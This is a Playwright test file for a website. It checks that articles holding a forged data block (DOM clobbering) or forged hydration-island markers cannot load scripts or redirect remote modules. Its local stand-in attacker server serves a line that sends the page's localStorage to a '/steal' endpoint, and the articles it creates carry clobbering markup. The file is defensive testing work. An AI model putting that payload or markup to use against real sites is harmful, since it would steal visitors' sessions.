// Content never steers the page (docs/decisions/080): an article that carries a forged copy of the
// page's data block (DOM clobbering) cannot point the remotes at another host. The forged host is
// a real server here, so any request the page makes to it is counted, not only intercepted. Nor
// can it wake an island (docs/decisions/160, 161): the markers of the page's islands in an
// article wake nothing and load no script, and markup the sanitiser had let through (put into
// the page on its way here) is still not taken for the server's islands.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import type { Page } from '@playwright/test';
import {
  FORGED_ISLANDS,
  FORGED_ISLANDS_MARKDOWN,
  FORGED_ISLAND_TEXT,
} from '@portfolio/testing/hostile-markup';
import {
  DEV_ADMIN,
  expect,
  expectNoA11yViolations,
  idTokenFor,
  siteConfig,
  test,
  wakeIslands,
} from './fixtures';

let forgedHost: Server;
let forgedOrigin = '';
const forgedRequests: string[] = [];

test.beforeAll(async () => {
  forgedHost = createServer((request, response) => {
    forgedRequests.push(request.url ?? '');
    // What an attacker would serve: a remote entry that reads the session and sends it away.
    response.writeHead(200, {
      'Content-Type': 'text/javascript',
      'Access-Control-Allow-Origin': '*',
    });
    response.end('fetch("/steal?" + encodeURIComponent(JSON.stringify(localStorage)))');
  });
  await new Promise<void>((resolve) => forgedHost.listen(0, '127.0.0.1', resolve));
  forgedOrigin = `http://127.0.0.1:${(forgedHost.address() as AddressInfo).port}`;
});

test.afterAll(() => new Promise<void>((resolve) => forgedHost.close(() => resolve())));

test('an article with a forged data block loads nothing from the forged host, and the page still hydrates', async ({
  page,
  request,
}) => {
  const token = await idTokenFor(request, DEV_ADMIN.email, DEV_ADMIN.password);
  const headers = { authorization: `Bearer ${token}` };
  const config = await siteConfig(request);
  const manifest = `${forgedOrigin}/mf-manifest.json`;
  const forged = JSON.stringify({
    config: {
      ...config,
      remotes: { portfolio: manifest, blog: manifest, auth: manifest, shop: manifest },
      remoteOrigins: [forgedOrigin],
    },
    routes: {},
    loaderData: {},
    drawnInBrowser: [],
    reloadData: false,
  });
  const title = `Clobbering check ${Date.now().toString(36)}`;
  const content = [
    'A paragraph before the trap.',
    `<div id="site-data" hidden>${forged}</div>`,
    `<script type="application/json" id="site-data">${forged}</script>`,
    '<a name="site-data" id="root">named</a>',
    '## A heading to link to',
    '[Jump to it](#a-heading-to-link-to)',
  ].join('\n\n');
  const created = await request.post(`${config.apiBase}/articles`, {
    headers,
    // The oldest article of all, so specs walking the newest articles never meet it.
    data: { title, content, createdAt: '1999-01-01T00:00:00.000Z' },
  });
  expect(created.status()).toBe(201);
  const { _id: id } = (await created.json()) as { _id: string };

  const seen: string[] = [];
  page.on('request', (outgoing) => {
    if (outgoing.url().startsWith(forgedOrigin)) seen.push(outgoing.url());
  });
  try {
    // Twice: the second answer comes from the site's render cache, as an anonymous visitor's does.
    for (const visit of [1, 2]) {
      await page.goto(`/article/${id}`);
      // A page of islands: its islands read the page's own block when they wake.
      await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'islands');
      await wakeIslands(page);
      await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
      await page.waitForLoadState('networkidle');
      expect(seen, `visit ${visit}: requests to the forged host`).toEqual([]);
    }
    // The article's own names are prefixed; the page's own block is gone once read.
    await expect(page.locator('#user-content-site-data')).toHaveCount(1);
    await expect(page.locator('#site-data')).toHaveCount(0);
    await expect(page.locator('a[name="user-content-site-data"]')).toHaveCount(1);
    await expect(page.getByRole('link', { name: 'Jump to it' })).toHaveAttribute(
      'href',
      '#user-content-a-heading-to-link-to',
    );
    await expect(page.locator('#user-content-a-heading-to-link-to')).toHaveText(
      'A heading to link to',
    );
    // Hydrated for real: a client navigation works without a new document.
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link', { name: 'Blog' })
      .click();
    await expect(page).toHaveURL(/\/blog$/);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expectNoA11yViolations(page);
    expect(forgedRequests).toEqual([]);
  } finally {
    expect((await request.delete(`${config.apiBase}/articles/${id}`, { headers })).ok()).toBe(true);
  }
});

test("the server writes the page's data block in the head, before any content", async ({
  request,
}) => {
  const body = await (await request.get('/blog')).text();
  const block = body.indexOf('<script type="application/json" id="site-data">');
  expect(block).toBeGreaterThan(0);
  expect(block).toBeLessThan(body.indexOf('</head>'));
  expect(body.indexOf('<div id="root">')).toBeGreaterThan(body.indexOf('</head>'));
});

/** Every script the page asks for, from now on. */
function scriptsOf(page: Page): string[] {
  const scripts: string[] = [];
  page.on('request', (outgoing) => {
    if (outgoing.resourceType() === 'script') scripts.push(outgoing.url());
  });
  return scripts;
}

/** After the load event, a frame and a task, twice: when a `load` island would have woken. */
async function pastLoadIslands(page: Page): Promise<void> {
  await page.waitForLoadState('load');
  for (const _ of [1, 2]) {
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))),
    );
  }
  await page.waitForLoadState('networkidle');
}

/**
 * Nothing of the forged islands is live: no island hydrated or run, one navbar (the site's), no
 * pop-up, no contact form, and the forged scroll flag left as it was.
 */
async function expectNothingForgedLive(page: Page): Promise<void> {
  await expect(page.locator('[data-island-live]')).toHaveCount(0);
  await expect(page.getByRole('navigation', { name: 'Main' })).toHaveCount(1);
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(page.getByLabel('Message')).toHaveCount(0);
  await expect(page.getByText(FORGED_ISLAND_TEXT)).toHaveCount(0);
  await expect(page.locator('header[data-scrolled="true"]:not(:has(nav))')).toHaveCount(0);
}

/** Scrolls, and presses and touches each forged island, as a visitor might. */
async function touchForgedIslands(page: Page): Promise<void> {
  await page.mouse.wheel(0, 400);
  for (const text of ['open', 'forged form', 'forged flag', 'typed']) {
    await page.getByText(text, { exact: true }).click();
  }
  await page.waitForLoadState('networkidle');
}

test("an article carrying the islands' markers wakes nothing and loads no script", async ({
  page,
  request,
}) => {
  const token = await idTokenFor(request, DEV_ADMIN.email, DEV_ADMIN.password);
  const headers = { authorization: `Bearer ${token}` };
  const config = await siteConfig(request);
  const title = `Island markers ${Date.now().toString(36)}`;
  const created = await request.post(`${config.apiBase}/articles`, {
    headers,
    data: {
      title,
      content: `A paragraph before the markers.\n\n${FORGED_ISLANDS_MARKDOWN}`,
      createdAt: '1999-01-01T00:00:00.000Z',
    },
  });
  expect(created.status()).toBe(201);
  const { _id: id } = (await created.json()) as { _id: string };
  try {
    // Twice: the second answer comes from the site's render cache, as an anonymous visitor's does.
    for (const visit of [1, 2]) {
      const scripts = scriptsOf(page);
      await page.goto(`/article/${id}`);
      await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'islands');
      await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
      await pastLoadIslands(page);
      // The article's markup is there as text, and nothing of it is an island any more (the
      // comments' forms, after the article, are the server's: docs/decisions/200).
      await expect(page.getByText('forged navbar')).toBeVisible();
      await expect(
        page.locator('main article [data-island], main [data-island-awake]'),
      ).toHaveCount(0);
      await touchForgedIslands(page);
      await expectNothingForgedLive(page);
      expect(scripts, `visit ${visit}: scripts the article page asked for`).toEqual([]);
    }
    await expectNoA11yViolations(page);
  } finally {
    expect((await request.delete(`${config.apiBase}/articles/${id}`, { headers })).ok()).toBe(true);
  }
});

test("markup that says it is an island but was not rendered by the server is never woken, while the site's own islands are", async ({
  page,
}) => {
  // As if the sanitiser had let the markers through: put into the article's HTML on its way to
  // the browser. The loader alone must tell them from the server's islands.
  const forged = Object.values(FORGED_ISLANDS).join('');
  await page.route(/\/article\/[^/?]+$/, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<main', `${forged}<main`);
    await route.fulfill({ response, body });
  });
  await page.goto('/blog');
  const first = page.locator('main article a').first();
  const href = await first.getAttribute('href');
  expect(href).toMatch(/^\/article\//);
  const scripts = scriptsOf(page);
  await page.goto(href!);
  await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'islands');
  await expect(page.getByText('forged navbar')).toBeVisible();
  await pastLoadIslands(page);
  await touchForgedIslands(page);
  await expectNothingForgedLive(page);
  expect(scripts, "scripts asked for before the site's own island was touched").toEqual([]);
  // The site's own navbar still wakes at its first touch.
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Blog' }).focus();
  await expect(page.locator('[data-island="shell/Navbar"][data-island-live]')).toHaveCount(1);
  await expect(page.locator('[data-island-live]')).toHaveCount(1);
  await expect(page.getByRole('dialog')).toHaveCount(0);
});
